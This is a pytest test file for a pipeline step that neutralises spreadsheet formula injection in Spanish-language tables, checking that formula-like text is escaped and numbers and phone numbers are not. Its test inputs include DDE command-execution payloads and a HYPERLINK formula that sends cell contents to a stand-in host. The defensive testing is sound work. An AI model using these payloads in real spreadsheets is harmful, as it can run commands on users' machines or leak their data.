"""What a spreadsheet would run is written as plain text; figures, dashes and telephones stay as they are."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st

from pipelines.clean import Repair, Tabla
from pipelines.clean.formula_injection import is_formula, neutralise, neutralise_formulas, restore
from pipelines.schema import Schema

TRIGGERS = "=+-@\t\r"
SCHEMA = Schema(
    "acuerdos",
    {
        "fields": [
            {"name": "acuerdo_id", "type": "string"},
            {"name": "texto", "type": "string"},
            {"name": "monto", "type": "number"},
        ]
    },
)
any_text = st.one_of(st.text(), st.builds(str.__add__, st.sampled_from([*TRIGGERS, "'", "'=", "＝"]), st.text()))


def table(*records: tuple[str, str, str]) -> Tabla:
    return Tabla(
        schema=SCHEMA, data=pd.DataFrame(list(records), columns=list(SCHEMA.columns), dtype="str"),
        rows=tuple(range(3, 3 + len(records))), file="secretariado.ods", sheet="Acuerdos", header_row=2,
        letters={"acuerdo_id": "A", "texto": "B", "monto": "D"}, unknown_columns=(), stray_cells=(), repairs=(),
    )  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", '=HYPERLINK("http://malo.example?x="&A1,"Ver")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+A1", "-1-1", "\t=1+1", "\r=1+1", "\n=1+1",
        "＝1+1", "＠SUM(A1)", "=", "+", "@", "=-1", "-A1", "-(1)", "--1", "-1e", "+52 777 329 2200+A1",
        "- Elaborar el padrón", "@gobmx",
    ],
)  # fmt: skip
def test_what_may_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "", "Obra", "1+1", "a=b", "'=1+1", "-5", "+5", "-1234.50", "-1,234.50", "-$1,234.50", "- 5", "-.5", "-5%",
        "-5 %", "+1e10", "-1E-05", "−5", "–5 obras", "-", "--", "-–—", "- -",
        "+52", "+52 777 329 2200", "+527773292200", "+52-777-329-2200", "+1 (212) 555-0100",
    ],
)  # fmt: skip
def test_what_runs_nothing_stays(text: str) -> None:
    assert neutralise(text) == text


@given(
    st.one_of(
        st.integers(),
        st.decimals(allow_nan=False, allow_infinity=False),
        st.floats(allow_nan=False, allow_infinity=False),
    )
)
def test_a_number_never_changes(number: object) -> None:
    assert neutralise(str(number)) == str(number)


@given(
    st.decimals(allow_nan=False, allow_infinity=False, places=2),
    st.sampled_from(["{:,}", "{:+,}", "{:+}", "{:.2f}", "{:+.2%}", "{:e}"]),
)
def test_a_formatted_number_never_changes(number: object, form: str) -> None:
    assert neutralise(form.format(number)) == form.format(number)


@given(any_text)
@example("=1+1")
def test_neutralised_text_begins_no_formula_and_neutralising_it_again_changes_nothing(text: str) -> None:
    once = neutralise(text)
    assert not is_formula(once)
    assert neutralise(once) == once
    assert once == text or (once[0] == "'" and once[0] not in TRIGGERS)


@given(any_text)
@example("=1+1")
def test_what_was_neutralised_can_be_had_back(text: str) -> None:
    assume(not (text.startswith("'") and is_formula(text[1:])))
    assert restore(neutralise(text)) == text


def test_text_columns_are_neutralised_and_told_and_numbers_are_not_looked_at() -> None:
    given_table = table(("a-1", "=1+1", "=1+1"), ("a-2", "-", "-5"), ("a-3", "Se aprueba", "7"), ("a-4", "@todos", ""))
    made = neutralise_formulas(given_table)
    assert made.data.values.tolist() == [
        ["a-1", "'=1+1", "=1+1"], ["a-2", "-", "-5"], ["a-3", "Se aprueba", "7"], ["a-4", "'@todos", ""],
    ]  # fmt: skip
    assert made.repairs == (Repair("formula", "texto", 2, (("B3", "=1+1", "'=1+1"), ("B6", "@todos", "'@todos"))),)
    assert given_table.data.at[0, "texto"] == "=1+1"


def test_a_table_with_nothing_to_run_is_left_alone() -> None:
    one = table(("a-1", "Se aprueba", "-5"))
    assert neutralise_formulas(one).data is one.data
